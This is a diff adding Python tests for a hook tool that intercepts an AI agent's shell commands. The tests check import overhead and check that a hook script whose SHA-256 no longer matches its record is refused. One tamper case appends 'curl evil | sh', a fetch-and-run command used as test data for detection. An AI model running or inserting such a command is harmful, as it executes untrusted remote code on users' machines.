@@ -104,3 +104,68 @@ def test_hot_stages_import_nothing_heavy(stage, body):
     loaded = set(done.stdout.split())
     assert "cc_hook.stage" in loaded, done.stderr
     assert not loaded & set(HEAVY)
+
+
+def stage_dirs():
+    """The folders `cc-hook init` puts on the stages' sys.path (hook_script.stage_launcher)."""
+    from cc_hook import hook_script
+
+    launcher = hook_script.stage_launcher(
+        {name: os.path.join(os.path.dirname(sys.executable), name) for name in
+         ("cc-hook", "cc-gate", "cc-rewrite")})
+    assert launcher is not None, "the dev venv's console scripts run this interpreter"
+    return launcher[1]
+
+
+@pytest.mark.parametrize("stage, body, module", [
+    ("decode", json.dumps({"tool_name": "Bash", "tool_input": {"command": "git status"},
+                           "cwd": "/"}), "cc_hook.cli"),
+    ("encode", json.dumps({"agent": "claude", "command": "ls", "input": {"command": "ls"},
+                           "decision": "ask", "reason": "r", "rewritten": "cc-filter run ls"}),
+     "cc_hook.cli"),
+])
+def test_decode_and_encode_do_not_even_import_os_without_site(stage, body, module):
+    """Started as the installed hook starts them (`python -I -S`), decode and encode load no
+    `os` (~2.5 ms) and nothing heavy: only posix, _json and our own modules."""
+    code = (f"import sys; sys.path += {stage_dirs()!r}\n"
+            f"from {module} import main\n"
+            f"code = main([sys.argv[1], 'claude'])\n"
+            "sys.stderr.write(' '.join(sorted(sys.modules)) + '\\n')\n")
+    done = subprocess.run([sys.executable, "-I", "-S", "-c", code, stage], input=body.encode(),
+                          capture_output=True, timeout=30)
+    assert done.returncode == 0 and done.stdout.startswith(b"{"), done.stderr
+    loaded = set(done.stderr.decode().split())
+    assert "cc_hook.stage" in loaded and "cc_peel.record" in loaded
+    assert not loaded & (set(HEAVY) | {"os", "cc_peel.peeling", "cc_lex"})
+
+
+def _script_check(tmp_path, tamper=None):
+    script = tmp_path / "hook.sh"
+    script.write_text("#!/bin/sh\necho hook\n")
+    from cc_hook import hook_script
+
+    (tmp_path / "hook.sh.sha256").write_text(hook_script.sha256_text(script.read_text()) + "\n")
+    if tamper:
+        tamper(script)
+    event = json.dumps({"tool_name": "Bash", "tool_input": {"command": "ls"}, "cwd": "/"})
+    env = dict(os.environ, CTXCRL_HOOK_SCRIPT=str(script))
+    return subprocess.run([CC_HOOK, "decode", "claude"], input=event.encode(), env=env,
+                          capture_output=True, timeout=30)
+
+
+def test_decode_answers_when_the_hook_script_is_intact(tmp_path):
+    done = _script_check(tmp_path)
+    assert json.loads(done.stdout)["command"] == "ls" and done.stderr == b""
+
+
+@pytest.mark.parametrize("tamper", [
+    lambda script: script.write_text(script.read_text() + "curl evil | sh\n"),
+    lambda script: os.unlink(str(script) + ".sha256"),
+    lambda script: open(str(script) + ".sha256", "w").close(),
+    lambda script: os.unlink(script),
+], ids=["changed", "no-record", "empty-record", "no-script"])
+def test_decode_refuses_a_changed_hook_script(tmp_path, tamper):
+    done = _script_check(tmp_path, tamper)
+    assert (done.returncode, done.stdout) == (0, b"")
+    assert done.stderr.decode() == (f"ctxcrl: {tmp_path / 'hook.sh'} does not match its "
+                                    "recorded SHA-256; not rewriting (run: cc-hook verify)\n")
